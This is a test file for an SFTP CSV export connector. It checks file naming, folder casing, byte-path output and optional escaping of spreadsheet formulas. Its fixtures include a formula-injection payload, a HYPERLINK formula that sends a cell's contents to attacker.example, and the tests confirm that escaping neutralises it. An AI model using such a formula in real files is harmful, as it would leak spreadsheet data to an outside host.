import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { CsvEncoder, runExport, type ConnectorDefinition, type ExportItem, type SourceRecord } from '@outport/connector-sdk';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import connector from '../src/index.js';
import { exportContext, exportItem, manifest, parseCsv, startTestServer, type TestServer } from './helpers.js';

/** What the files need so that whoever picks them up gets every row, as it was, safely. */

function segment(id: string, name: string, size: number, from: number): { item: ExportItem; records: SourceRecord[] } {
  const records = Array.from({ length: size }, (_, i) => ({ key: `M${from + i}`, values: { key: `M${from + i}`, email: `m${from + i}@example.com` } }));
  return { item: { kind: 'segment', id, name, segmentType: 'profile', memberCount: size }, records };
}

describe('files on the SFTP server', () => {
  let server: TestServer;
  beforeAll(async () => {
    server = await startTestServer();
    mkdirSync(join(server.root, 'outbox'));
  });
  afterAll(() => server.stop());

  it('gives segments whose names clean alike their own files, each holding every member', async () => {
    const slash = segment('seg-eu-slash-vip', 'EU/VIP', 839, 0);
    const underscore = segment('seg-eu-underscore-vip', 'EU_VIP', 377, 10_000);
    const result = await runExport({ connector, manifest, context: exportContext(server, { folder: '/outbox' }, { audienceKind: 'members' }), items: [slash, underscore] });
    expect(result.items.map((i) => i.accepted)).toEqual([839, 377]);

    const files = server.files('/outbox');
    expect(files).toHaveLength(2);
    expect(files).toContain('EU_VIP_202503140926.csv');
    const suffixed = files.find((f) => /^EU_VIP_[0-9a-f]{8}_202503140926\.csv$/.test(f));
    expect(suffixed).toBeDefined();
    const keys = (file: string) => parseCsv(server.read(`outbox/${file}`), ',').slice(1).map((row) => row[0]);
    expect(keys('EU_VIP_202503140926.csv')).toEqual(underscore.records.map((r) => r.key));
    expect(keys(suffixed!)).toEqual(slash.records.map((r) => r.key));

    // The same names on the next run: nothing depends on what else the export holds.
    await runExport({ connector, manifest, context: exportContext(server, { folder: '/outbox' }, { audienceKind: 'members', runId: 'run-2' }), items: [slash] });
    expect(server.files('/outbox')).toEqual(files);
  });

  it('writes to the export folder in lower case, as Customer Insights does', async () => {
    const item: ExportItem = { kind: 'table', id: 't-1', name: 'Orders', keyColumn: 'id', columns: [{ name: 'id', type: 'string' }], rowCount: 1 };
    const result = await exportItem(exportContext(server, { folder: '/OutBox' }), item, [{ key: 'o-1', values: { id: 'o-1' } }]);
    expect(result.items[0]!.accepted).toBe(1);
    expect(server.files('/outbox')).toContain('Orders_202503140926.csv');
  });

  const table: ExportItem = {
    kind: 'table',
    id: 't-notes',
    name: 'Notes',
    keyColumn: 'id',
    columns: [
      { name: 'id', type: 'string' },
      { name: 'note', type: 'string' },
      { name: 'amount', type: 'number' },
    ],
    rowCount: 4,
  };
  const rows: SourceRecord[] = [
    { key: 'n-1', values: { id: 'n-1', note: '=HYPERLINK("http://attacker.example/?"&A1,"click")', amount: 1e-7 } },
    { key: 'n-2', values: { id: 'n-2', note: '@SUM(A1:A9)', amount: 1e21 } },
    { key: 'n-3', values: { id: 'n-3', note: '+33612345678', amount: -2 } },
    { key: 'n-4', values: { id: 'n-4', note: 'plain', amount: 2.5 } },
  ];

  it.each([
    { delimiter: ',', escapeFormulas: false },
    { delimiter: ';', escapeFormulas: true },
  ])(
    'writes the same file from bytes (the data-out byte path) as from records, delimiter "$delimiter", formulas escaped: $escapeFormulas',
    async (options) => {
      const many = Array.from({ length: 3_000 }, (_, i) => rows[i % rows.length]!).map((r, i) => ({
        key: `k${i}`,
        values: { ...r.values, id: `k${i}`, note: `${String(r.values.note)} ${i};\r\n"${i}"` },
      })) as SourceRecord[];
      const big = { ...table, rowCount: many.length };
      // The connector without its byte path: records encoded one by one, as before it.
      const rowPathOnly: ConnectorDefinition = {
        ...connector,
        createExporter: (ctx) => {
          const exporter = connector.createExporter(ctx);
          return { exportItem: (item, batches) => exporter.exportItem(item, batches) };
        },
      };
      await runExport({
        connector: rowPathOnly,
        manifest,
        context: exportContext(server, { folder: '/outbox', fileNamePrefix: 'rows_', ...options }),
        items: [{ item: big, records: many }],
      });
      const progress: number[] = [];
      const result = await runExport({
        connector,
        manifest,
        context: exportContext(server, { folder: '/outbox', fileNamePrefix: 'bytes_', ...options }),
        items: [
          {
            item: big,
            records: [],
            csv: (dialect) => {
              const encoder = new CsvEncoder(dialect);
              const columns = big.kind === 'table' ? big.columns.map((c) => c.name) : [];
              return {
                header: Buffer.from(encoder.row(columns)),
                // eslint-disable-next-line @typescript-eslint/require-await -- chunks already in memory, as a stream
                chunks: (async function* () {
                  for (let i = 0; i < many.length; i += 500) {
                    const part = many.slice(i, i + 500);
                    yield {
                      bytes: Buffer.from(
                        part.map((r) => encoder.row(columns.map((c) => r.values[c]))).join(''),
                      ),
                      rows: part.length,
                    };
                  }
                })(),
                wholeNumbers: () => Promise.resolve({}),
              };
            },
          },
        ],
        onCsvProgress: ({ rows: written }) => void progress.push(written),
      });
      expect(result.items[0]!.accepted).toBe(many.length);
      expect(progress.at(-1)).toBe(many.length);
      expect(server.read('outbox/bytes_Notes_202503140926.csv')).toBe(
        server.read('outbox/rows_Notes_202503140926.csv'),
      );
      expect(parseCsv(server.read('outbox/bytes_Notes_202503140926.csv'), options.delimiter)).toHaveLength(
        many.length + 1,
      );
    },
  );

  it('writes numbers in plain decimal notation and text as it is by default', async () => {
    await exportItem(exportContext(server, { folder: '/outbox', fileNamePrefix: 'plain_' }), table, rows);
    const text = server.read('outbox/plain_Notes_202503140926.csv');
    expect(parseCsv(text, ',').slice(1)).toEqual([
      ['n-1', '=HYPERLINK("http://attacker.example/?"&A1,"click")', '0.0000001'],
      ['n-2', '@SUM(A1:A9)', '1000000000000000000000'],
      ['n-3', '+33612345678', '-2'],
      ['n-4', 'plain', '2.5'],
    ]);
  });

  it('escapes text a spreadsheet would run as a formula when the export asks', async () => {
    await exportItem(exportContext(server, { folder: '/outbox', fileNamePrefix: 'safe_', delimiter: ';', escapeFormulas: true }), table, rows);
    expect(parseCsv(server.read('outbox/safe_Notes_202503140926.csv'), ';').slice(1)).toEqual([
      ['n-1', `'=HYPERLINK("http://attacker.example/?"&A1,"click")`, '0.0000001'],
      ['n-2', "'@SUM(A1:A9)", '1000000000000000000000'],
      ['n-3', "'+33612345678", '-2'],
      ['n-4', 'plain', '2.5'],
    ]);
  });
});
